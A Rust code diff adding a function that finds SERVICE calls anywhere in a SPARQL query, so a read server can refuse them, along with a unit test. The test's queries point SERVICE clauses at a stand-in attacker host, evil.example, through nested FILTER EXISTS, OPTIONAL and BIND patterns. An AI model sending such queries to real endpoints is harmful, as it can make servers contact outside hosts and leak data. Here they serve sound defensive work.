@@ -311,6 +311,121 @@ pub fn parse_update(text: &str) -> bool {
         && spargebra::SparqlParser::new().parse_update(text).is_ok()
 }
 
+/// The first SERVICE a query calls (its IRI or variable), looked for everywhere, FILTER
+/// EXISTS included: a read server refuses it before sending the query to its backend, which
+/// might follow it. Call on a query thread (the walk recurses like the parser).
+pub fn service_of(query: &Query) -> Option<String> {
+    let pattern = match query {
+        Query::Select { pattern, .. }
+        | Query::Construct { pattern, .. }
+        | Query::Describe { pattern, .. }
+        | Query::Ask { pattern, .. } => pattern,
+    };
+    let mut found = None;
+    pattern_service(pattern, &mut found);
+    found
+}
+
+fn pattern_service(p: &GraphPattern, found: &mut Option<String>) {
+    if found.is_some() {
+        return;
+    }
+    match p {
+        GraphPattern::Service { name, .. } => *found = Some(name.to_string()),
+        GraphPattern::Bgp { .. } | GraphPattern::Values { .. } | GraphPattern::Path { .. } => {}
+        GraphPattern::Join { left, right }
+        | GraphPattern::Lateral { left, right }
+        | GraphPattern::Union { left, right }
+        | GraphPattern::Minus { left, right } => {
+            pattern_service(left, found);
+            pattern_service(right, found);
+        }
+        GraphPattern::LeftJoin {
+            left,
+            right,
+            expression,
+        } => {
+            pattern_service(left, found);
+            pattern_service(right, found);
+            if let Some(e) = expression {
+                expression_service(e, found);
+            }
+        }
+        GraphPattern::Filter { expr, inner } => {
+            expression_service(expr, found);
+            pattern_service(inner, found);
+        }
+        GraphPattern::Extend {
+            inner, expression, ..
+        } => {
+            expression_service(expression, found);
+            pattern_service(inner, found);
+        }
+        GraphPattern::OrderBy { inner, expression } => {
+            for o in expression {
+                let (OrderExpression::Asc(e) | OrderExpression::Desc(e)) = o;
+                expression_service(e, found);
+            }
+            pattern_service(inner, found);
+        }
+        GraphPattern::Group {
+            inner, aggregates, ..
+        } => {
+            for (_, a) in aggregates {
+                if let AggregateExpression::FunctionCall { expr, .. } = a {
+                    expression_service(expr, found);
+                }
+            }
+            pattern_service(inner, found);
+        }
+        GraphPattern::Graph { inner, .. }
+        | GraphPattern::Project { inner, .. }
+        | GraphPattern::Distinct { inner }
+        | GraphPattern::Reduced { inner }
+        | GraphPattern::Slice { inner, .. } => pattern_service(inner, found),
+    }
+}
+
+fn expression_service(e: &Expression, found: &mut Option<String>) {
+    match e {
+        Expression::NamedNode(_)
+        | Expression::Literal(_)
+        | Expression::Variable(_)
+        | Expression::Bound(_) => {}
+        Expression::Or(a, b)
+        | Expression::And(a, b)
+        | Expression::Equal(a, b)
+        | Expression::SameTerm(a, b)
+        | Expression::Greater(a, b)
+        | Expression::GreaterOrEqual(a, b)
+        | Expression::Less(a, b)
+        | Expression::LessOrEqual(a, b)
+        | Expression::Add(a, b)
+        | Expression::Subtract(a, b)
+        | Expression::Multiply(a, b)
+        | Expression::Divide(a, b) => {
+            expression_service(a, found);
+            expression_service(b, found);
+        }
+        Expression::In(a, v) => {
+            expression_service(a, found);
+            v.iter().for_each(|e| expression_service(e, found));
+        }
+        Expression::UnaryPlus(a) | Expression::UnaryMinus(a) | Expression::Not(a) => {
+            expression_service(a, found)
+        }
+        Expression::Exists(p) => pattern_service(p, found),
+        Expression::If(a, b, c) => {
+            expression_service(a, found);
+            expression_service(b, found);
+            expression_service(c, found);
+        }
+        Expression::Coalesce(v) | Expression::FunctionCall(_, v) => {
+            v.iter().for_each(|e| expression_service(e, found))
+        }
+    }
+}
+
 fn pattern_depth(p: &GraphPattern) -> usize {
     1 + match p {
         // The optimiser turns a basic graph pattern into a tree of joins.
@@ -409,6 +524,28 @@ mod tests {
     use super::*;
     use oxigraph::sparql::{QueryResults, SparqlEvaluator};
     use oxigraph::store::Store;
+
+    #[test]
+    fn a_service_is_found_wherever_it_is() {
+        let service = |q: &str| service_of(&parse(q).unwrap());
+        for q in [
+            "SELECT * { SERVICE <http://evil.example/sparql> { ?s ?p ?o } }",
+            "SELECT * { ?s ?p ?o OPTIONAL { SERVICE SILENT <http://evil.example/sparql> { ?s ?q ?r } } }",
+            "ASK { ?s ?p ?o FILTER EXISTS { SERVICE <http://evil.example/sparql> { ?s ?q ?r } } }",
+            "SELECT (COUNT(*) AS ?n) { { ?s ?p ?o } UNION { GRAPH ?g { SERVICE <http://evil.example/sparql> { ?s ?q ?r } } } }",
+            "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o BIND(IF(EXISTS { SERVICE <http://evil.example/sparql> {} }, 1, 2) AS ?x) }",
+        ] {
+            assert_eq!(service(q).as_deref(), Some("<http://evil.example/sparql>"), "{q}");
+        }
+        assert_eq!(
+            service("SELECT * { SERVICE ?where { ?s ?p ?o } }").as_deref(),
+            Some("?where")
+        );
+        assert_eq!(
+            service("SELECT * { ?s <http://x/service> \"SERVICE <http://evil.example/>\" }"),
+            None
+        );
+    }
 
     #[test]
     fn brackets_in_strings_iris_and_comments_do_not_count() {
